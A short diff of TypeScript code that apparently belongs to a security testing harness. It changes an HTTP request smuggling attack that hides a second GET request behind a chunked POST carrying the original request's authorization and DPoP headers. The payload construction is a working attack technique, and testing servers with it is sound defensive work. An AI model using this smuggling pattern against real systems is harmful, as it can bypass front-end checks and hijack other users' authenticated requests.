@@ -155,7 +155,7 @@ function smuggling(shapes: readonly Shape[]): readonly Attack[] {
     ...{ codes: ['http.400'], protocol: [], needs: ['hold', 'raw-api'] },
     async run(scene) {
       const held = await heldCall(scene, { target: scene.routes.write, method: 'POST', body: '{"amount":1}' });
-      const hidden = `GET ${scene.routes.read} HTTP/1.1\r\nHost: ${held.host}\r\nx: `;
+      const hidden = `GET ${scene.routes.read} HTTP/1.1\r\nHost: ${held.host}\r\n\r\n`;
       const own = ['authorization', 'dpop'].map((name) => `${name}: ${headerOf(held, name) ?? ''}`);
       const head = [`POST ${held.target} HTTP/1.1`, `Host: ${held.host}`, ...own, lengths];
       const octets = await scene.sendRaw(held.host, `${head.join('\r\n')}\r\n\r\n0\r\n\r\n${hidden}`);
